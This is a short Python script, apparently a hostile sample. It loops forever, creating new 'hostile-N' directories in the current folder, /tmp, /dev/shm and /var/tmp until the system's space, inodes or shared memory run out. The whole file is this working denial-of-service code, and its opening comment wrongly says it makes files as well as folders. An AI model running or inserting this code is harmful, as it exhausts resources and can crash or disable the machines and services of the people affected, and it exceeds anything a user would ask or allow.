# Makes files and folders for ever, wherever it can.
import os

count = 0
while True:
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        os.mkdir(os.path.join(folder, f"hostile-{count}"))
    count += 1
